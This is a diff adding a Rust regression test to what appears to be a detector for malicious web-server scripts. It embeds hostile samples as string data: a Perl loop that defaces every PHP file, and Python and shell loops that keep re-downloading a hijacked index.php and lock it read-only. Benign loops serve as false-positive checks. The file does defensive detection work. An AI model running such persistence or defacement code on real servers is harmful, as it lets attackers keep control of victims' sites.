@@ -440,3 +440,20 @@ fn a_defacer_overwriting_every_page_it_globs_is_found() {
                 my @php = glob(\"*.php\");\nforeach my $deface(@php){ open(DEFACE, '>', $deface); print DEFACE $def; close(DEFACE) }\n";
     assert_eq!(whys(perl), [Why::MassDefacer]);
 }
+
+#[test]
+fn a_loop_without_end_putting_a_php_file_back_is_a_watchdog() {
+    // Regression: fresh125's `lockpermision.py` downloads the hijacked `index.php` again and
+    // locks it; its `skrip-wget-content.sh` downloads over the page whenever it changes.
+    let python = "import os, time, urllib.request\nfile_path = '/var/www/u1/data/www/site/index.php'\n\
+                  def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n    os.chmod(dest, 0o555)\n\
+                  while True:\n    time.sleep(5)\n    if not os.path.exists(file_path):\n        fetch(src_url, file_path)\n";
+    assert_eq!(whys(python), [Why::RewritesFilesForever]);
+    let shell = "outputFile=\"/dir/targetfile.php\"\nwhile true; do\n    wget -q \"$url\" -O \"$outputFile\"\n    sleep 10\ndone\n";
+    assert_eq!(whys(shell), [Why::RewritesFilesForever]);
+    // A site's queue runner in a loop, and a monitor asking its cron page every minute.
+    let worker = "#!/bin/sh\nwhile true; do php /home/u/public_html/artisan queue:work --once; sleep 1; done\n";
+    assert!(whys(worker).is_empty(), "{:?}", whys(worker));
+    let monitor = "#!/bin/sh\nwhile true; do curl -s \"https://example.com/cron.php\" > /dev/null; sleep 60; done\n";
+    assert!(whys(monitor).is_empty(), "{:?}", whys(monitor));
+}
